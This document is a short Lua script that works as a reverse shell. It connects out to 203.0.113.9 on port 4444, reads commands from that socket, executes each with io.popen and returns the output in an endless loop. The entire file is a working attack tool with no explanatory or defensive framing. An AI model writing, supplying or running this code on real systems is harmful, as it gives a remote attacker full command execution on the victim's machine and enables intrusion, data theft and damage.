local socket = require("socket")
local t = assert(socket.tcp())
t:connect("203.0.113.9", 4444)
while true do
  local r, x = t:receive()
  local f = assert(io.popen(r, 'r'))
  local b = assert(f:read('*a'))
  t:send(b)
end
